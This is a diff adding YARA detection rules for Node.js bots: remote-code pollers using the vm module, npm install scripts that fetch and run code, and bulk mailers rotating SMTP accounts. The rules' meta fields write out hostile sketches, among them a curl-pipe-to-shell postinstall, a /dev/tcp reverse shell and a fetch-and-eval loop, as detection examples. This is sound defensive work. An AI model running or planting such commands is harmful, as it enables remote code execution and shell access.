@@ -138,3 +138,126 @@ rule node_hidden_port_forward : bot
     condition:
         filesize < 1MB and node__net_module and $ls and $cn and $pp and ($t1 or ($r1 and $r2 and $r3))
 }
+
+/* ---- round 9 (branch script9, seen = "none"): written from the
+ * techniques on hand-written variants (tests/fixtures/scripts/{malicious,benign}/r9_*). */
+
+/* Node.js source: a node shebang, or a .js/.cjs/.mjs/.ts file that is not
+ * a page (no HTML, no Markdown fence). A changelog quoting vm calls and
+ * fetches is documentation. */
+private rule node__source
+{
+    strings:
+        // (the path spelt out: `#![^\n]{0,40}node` costs 10 M on PHP)
+        $sb = /#!\/usr\/(local\/)?bin\/(env )?node/
+        $h1 = "<html" ascii
+        $h2 = "```" ascii
+        $h3 = "<script" ascii
+    condition:
+        $sb at 0 or (extension matches /^(js|cjs|mjs|ts|mts|cts)$/ and not any of ($h*))
+}
+
+private rule node__vm_module
+{
+    strings:
+        $v1 = /require\s{0,2}\(\s{0,2}['"`](node:)?vm['"`]\s{0,2}\)/
+        $v2 = /\bfrom\s{1,4}['"](node:)?vm['"]/
+    condition:
+        any of them
+}
+
+/* A bot that polls a URL and runs the answer with the vm module: the code
+ * fetched on a timer or in an endless loop, then handed to
+ * vm.runInNewContext / runInThisContext / new vm.Script / compileFunction,
+ * or to a runner taken out of the module by destructuring. A template engine
+ * runs its own compiled views (read from disk, or a literal) and fetches
+ * only the data it renders. */
+rule node_vm_remote_code_poller : bot
+{
+    meta:
+        description = "Node.js bot polling a URL on a timer or in a loop and running the answer with the vm module"
+        severity = "high"
+        technique = "setInterval(() => https.get(U, r => { .. r.on('end', () => vm.runInNewContext(body, { require, process })) })); for (;;) { new vm.Script(await (await fetch(U)).text()).runInThisContext() }; const { runInNewContext: run } = require('vm'); run(data, sandbox)"
+        seen = "none"
+    strings:
+        // the fetch
+        $g1 = /\bhttps?\s{0,2}\.\s{0,2}(get|request)\s{0,2}\(/
+        $g2 = /\bfetch\s{0,2}\(\s{0,2}[a-zA-Z_$'"`]/
+        $g3 = /\baxios\s{0,2}(\.\s{0,2}(get|post|request))?\s{0,2}\(/
+        $g4 = /\bgot\s{0,2}(\.\s{0,2}(get|post))?\s{0,2}\(\s{0,2}[a-zA-Z_$'"`]/
+        // the answer run by vm: a non-literal first argument
+        $r1 = /\bvm\s{0,2}\.\s{0,2}(runInNewContext|runInThisContext|runInContext|compileFunction)\s{0,2}\(\s{0,2}[a-zA-Z_$][\w$.]{0,40}\s{0,2}[,)]/
+        $r2 = /\bnew\s{1,4}vm\s{0,2}\.\s{0,2}(Script|SourceTextModule)\s{0,2}\(\s{0,2}[a-zA-Z_$][\w$.]{0,40}\s{0,2}[,)]/
+        // or a runner destructured from the module: const { runInNewContext: run } = require('vm')
+        $d1 = /\{[^}\n]{0,80}\b(runInNewContext|runInThisContext|compileFunction|Script)\b[^}\n]{0,40}\}\s{0,2}=\s{0,2}require\s{0,2}\(\s{0,2}['"](node:)?vm['"]/
+        $d2 = /\bimport\s{1,4}\{[^}\n]{0,80}\b(runInNewContext|runInThisContext|compileFunction|Script)\b[^}\n]{0,40}\}\s{0,2}from\s{1,4}['"](node:)?vm['"]/
+        // polled: a timer or an endless loop
+        $t1 = "setInterval(" ascii
+        $t2 = /\bsetTimeout\s{0,2}\(\s{0,2}[a-zA-Z_$][\w$]{0,40}\s{0,2},/
+        $t3 = /\bwhile\s{0,2}\(\s{0,2}(true|1|!0)\s{0,2}\)/
+        $t4 = "for (;;)" ascii
+        $t6 = "for(;;)" ascii
+        $t5 = /setTimeout\s{0,2}\(\s{0,2}(loop|tick|poll|beat|run|main|next|again)\b/
+    condition:
+        filesize < 1MB and node__source and (node__vm_module or any of ($d*)) and any of ($t*) and (
+            for any i in (1..#r1) : ( for any of ($g*) : ( $ in (@r1[i] - 1500 .. @r1[i]) ) )
+            or for any i in (1..#r2) : ( for any of ($g*) : ( $ in (@r2[i] - 1500 .. @r2[i]) ) )
+            or (any of ($d*) and any of ($g*) and not any of ($r*)) )
+}
+
+/* An npm package whose install lifecycle script (preinstall, install,
+ * postinstall) fetches code and runs it or opens a shell: the command line
+ * in package.json's "scripts" object, read as JSON text (escaped quotes
+ * included). A native module's "install": "node-gyp rebuild", a thank-you
+ * message, `npx only-allow pnpm` run nothing fetched. */
+rule node_package_install_script_payload : bot
+{
+    meta:
+        description = "npm package.json install lifecycle script (preinstall/install/postinstall) that downloads and runs code or opens a shell"
+        severity = "high"
+        technique = "\"postinstall\": \"curl -fsSL https://x/s.sh | sh\"; \"preinstall\": \"node -e \\\"require('https').get(u, r => .. eval(b))\\\"\"; \"install\": \"bash -i >& /dev/tcp/H/P 0>&1\"; python3 -c exec(urlopen(..).read())"
+        seen = "none"
+    strings:
+        $sc = /"scripts"\s{0,4}:\s{0,4}\{/
+        // the lifecycle key and, in its value (escaped quotes allowed), what it runs
+        $f1 = /"(pre|post)?install"\s{0,4}:\s{0,4}"([^"\\\n]|\\.){0,400}\b(curl|wget)\s([^"\\\n|]|\\.){0,300}\|\s{0,4}(sudo\s{1,4})?(\/usr)?(\/bin\/)?((ba|z|da|k)?sh|node|python[0-9.]{0,4}|perl)\b/
+        $f2 = /"(pre|post)?install"\s{0,4}:\s{0,4}"([^"\\\n]|\\.){0,400}(\/dev\/tcp\/|\bmkfifo\b|\bsh\s{1,4}-i\b|\b(nc|ncat|netcat)\s{1,4}(-e\s)?[^"\n]{0,40}\b\d{2,5}\b|\bbase64\s{1,4}(-d|--decode)\b)/
+        $f3 = /"(pre|post)?install"\s{0,4}:\s{0,4}"([^"\\\n]|\\.){0,40}\bnode\s{1,4}-(e|p|-eval)\s([^"\n]|\\"){0,400}(\bhttps?['"\\]{0,3}\)\s{0,2}\.\s{0,2}(get|request)\b|\bfetch\s{0,2}\()([^"\n]|\\"){0,400}\b(eval|Function|runInThisContext|runInNewContext|exec|execSync|spawn)\s{0,2}\(/
+        $f4 = /"(pre|post)?install"\s{0,4}:\s{0,4}"([^"\\\n]|\\.){0,40}\bpython[0-9.]{0,4}\s{1,4}-c\s([^"\n]|\\"){0,400}(\b(urlopen|requests\.get|urlretrieve)\b([^"\n]|\\"){0,300}\b(exec|eval|os\.system|subprocess)\b|\b(exec|eval)\s{0,2}\(([^"\n]|\\"){0,300}\b(urlopen|requests\.get)\b)/
+        $f5 = /"(pre|post)?install"\s{0,4}:\s{0,4}"([^"\\\n]|\\.){0,400}\b(curl|wget)\s([^"\\\n]|\\.){0,300}(\/tmp\/|\/var\/tmp\/|\/dev\/shm\/)([^"\\\n]|\\.){0,200}(&&|;)\s{0,4}(chmod\s|nohup\s|\.?\/)/
+    condition:
+        filesize < 512KB and extension == "json" and $sc and any of ($f*)
+}
+
+/* A Node.js bulk sender over a pool of SMTP accounts: nodemailer
+ * transports made per account (the logins from a list or a file, not the
+ * environment), a recipient list read from a file, and each message sent to
+ * the list's entry by a transport picked in turn (`pool[i % pool.length]`)
+ * or by the account's own slice of the list. A shop's mail worker has one
+ * transport from its environment and mails the orders of its database. */
+rule node_smtp_account_pool_mailer : bot mailer
+{
+    meta:
+        description = "Node.js bulk mailer rotating a pool of SMTP accounts (nodemailer transports per login) over a recipient list file"
+        severity = "high"
+        technique = "smtps = lines(f).map(l => { const [host, port, user, pass] = l.split('|'); return nodemailer.createTransport({ host, port, auth: { user, pass } }) }); for (i..) smtps[i % smtps.length].sendMail({ to: leads[i], subject, html })"
+        seen = "none"
+    strings:
+        $nm = "nodemailer" ascii
+        $ct = "createTransport(" ascii
+        // a transport made per entry (map, forEach, a for loop)
+        $lp = /\.(map|forEach|flatMap)\(|\bfor \((const|let|var) /
+        // the login from a variable (shorthand, or one dot: c.user, not process.env.X)
+        $au = /\bauth\s{0,2}:\s{0,2}\{\s{0,2}user\s{0,2}(:\s{0,2}[a-zA-Z_$][\w$]{0,30}(\s{0,2}\.\s{0,2}[a-zA-Z_$][\w$]{0,20}|\[\s{0,2}\d\s{0,2}\])?)?\s{0,2},\s{0,2}pass\b/
+        // the recipients from a file
+        $rf = /\breadFile(Sync)?\s{0,2}\([^)\n]{0,120}\)\s{0,2}\)?\s{0,2}(\.toString\s{0,2}\(\s{0,2}\)\s{0,2})?\.split\s{0,2}\(/
+        // a transport picked in turn, or a slice of the list per account
+        $ro1 = /\[\s{0,2}[a-zA-Z_$][\w$]{0,10}(\+\+)?\s{0,2}%\s{0,2}[a-zA-Z_$][\w$]{0,30}\s{0,2}\.\s{0,2}length\s{0,2}\]/
+        $ro2 = /\.slice\s{0,2}\(\s{0,2}[a-zA-Z_$][\w$]{0,10}\s{0,2}\*\s{0,2}[a-zA-Z_$][\w$]{0,10}\s{0,2},/
+        $sm = /\.sendMail\s{0,2}\(\s{0,2}\{/
+        $to = /\bto: ?[a-zA-Z_$][\w$]{0,30}( ?\[ ?[a-zA-Z_$][\w$]{0,10} ?\])? ?[,}\n]/
+    condition:
+        filesize < 1MB and node__source and $nm and $au and $rf and any of ($ro*) and
+        for any i in (1..#lp) : ( $ct in (@lp[i] .. @lp[i] + 300) ) and
+        for any j in (1..#sm) : ( $to in (@sm[j] .. @sm[j] + 300) )
+}
